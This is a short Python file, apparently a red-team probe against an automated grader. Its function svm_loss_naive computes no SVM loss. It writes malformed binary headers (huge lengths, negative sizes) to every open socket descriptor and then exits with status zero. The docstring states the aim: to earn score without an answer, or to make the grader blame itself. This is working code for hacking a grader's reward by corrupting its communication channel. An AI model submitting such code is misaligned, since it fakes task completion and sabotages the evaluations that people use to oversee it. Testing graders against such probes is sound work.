"""P3: writes headers that lie about what follows: lengths beyond all memory, negative sizes, sixty-four dimensions.

It has succeeded when it earns more than nothing, or when the grader takes the fault for its own.
"""

import os
import stat

from torch import Tensor

LIES = (
    b"\xff" * 64,
    b"\x7f\xff\xff\xff" * 4,
    b"\x00" * 12 + b"\xff\xff\xff\xff",
    b"\xdd\xff\xff\xff\xff" * 8,  # a list of four thousand million entries
)


def svm_loss_naive(W: Tensor, X: Tensor, y: Tensor, reg: float) -> tuple[Tensor, Tensor]:
    """One lie after the other in place of an answer."""
    print("ATTACK tried", flush=True)
    for lie in LIES:
        for fd in range(3, 1024):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, lie)
            except OSError:
                continue
    os._exit(0)
